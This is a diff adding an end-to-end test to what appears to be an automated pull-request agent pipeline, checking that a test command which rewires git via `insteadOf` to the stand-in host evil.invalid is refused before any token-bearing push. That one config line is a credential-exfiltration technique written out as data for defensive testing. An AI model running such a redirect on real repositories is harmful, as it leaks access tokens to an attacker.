@@ -191,3 +191,33 @@ async def test_a_failed_runs_sound_partial_work_is_resumed_and_lands(
     assert row.state == "ready", row.reason
     assert [status for status, _ in errors] == ["failed", "merged"], errors
     assert "import os" not in at_head
+
+
+async def test_a_test_command_that_rewires_git_never_gets_the_token(
+    workdir: Path, e2e_db: str
+) -> None:
+    """The tests run the agent's code, which could redirect git (here `insteadOf` to another
+    host) before the push that carries the token: the push is refused, nothing is pushed."""
+    config = "test: git config url.http://evil.invalid/.insteadOf http://\n"
+    async with local_stack(workdir, database_url=e2e_db) as stack:
+        number = await open_pr(stack, pr_files={"shop/pricing.py": MODULE}, config=config)
+        row = await wait_settled(stack, REPO, number)
+        errors = await task_errors(stack)
+        branches = tree_refs(stack)
+
+    assert row.state == "needs-human"
+    assert errors and all(status == "refused" for status, _ in errors)
+    assert all("git config url." in (error or "") for _, error in errors)
+    assert not [b for b in branches if b.startswith("review-loop/")]
+
+
+def tree_refs(stack: Any) -> list[str]:
+    bare = stack.sandbox.hub.store.repos_dir / f"{REPO}.git"
+    out = subprocess.run(
+        ["git", "for-each-ref", "--format=%(refname:short)", "refs/heads"],
+        cwd=bare,
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    return out.stdout.split()
